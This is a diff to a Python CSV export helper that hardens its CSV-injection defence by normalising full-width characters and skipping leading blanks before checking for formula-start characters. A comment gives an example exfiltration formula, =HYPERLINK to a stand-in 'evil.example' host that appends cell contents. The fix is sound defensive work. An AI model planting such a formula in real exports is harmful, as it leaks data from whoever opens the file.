@@ -7,6 +7,7 @@ cells that a spreadsheet would run as a formula are written with a leading apost
 
 import csv
 import io
+import unicodedata
 from collections.abc import Callable, Iterable, Iterator
 from typing import Any
 
@@ -23,7 +24,10 @@ def relations_cell(relations: Iterable[ExportRelation]) -> str:
 
 # A spreadsheet runs a cell that starts with one of these as a formula, so a note such as
 # =HYPERLINK("https://evil.example/?"&A2) would act on whoever opens the export (CSV injection).
-_FORMULA_FIRST = frozenset("=+-@\t\r")
+# Spreadsheets skip leading blanks and read full-width forms (U+FF1D) as their ASCII
+# characters, so the test is on the first character that is not a blank, after NFKC.
+_FORMULA_FIRST = frozenset("=+-@")
+_CONTROL_FIRST = frozenset("\t\r\n")
 
 
 def csv_text(value: str) -> str:
@@ -32,7 +36,12 @@ def csv_text(value: str) -> str:
     Spreadsheets show the apostrophe-led cell as the text after it; JSON Lines keeps the exact
     value for programs.
     """
-    return "'" + value if value and value[0] in _FORMULA_FIRST else value
+    if not value:
+        return value
+    first = unicodedata.normalize("NFKC", value).lstrip()[:1]
+    if value[0] in _CONTROL_FIRST or first in _FORMULA_FIRST:
+        return "'" + value
+    return value
 
 
 def _text(name: str) -> Callable[[ExportSpan], tuple[Any, ...]]:
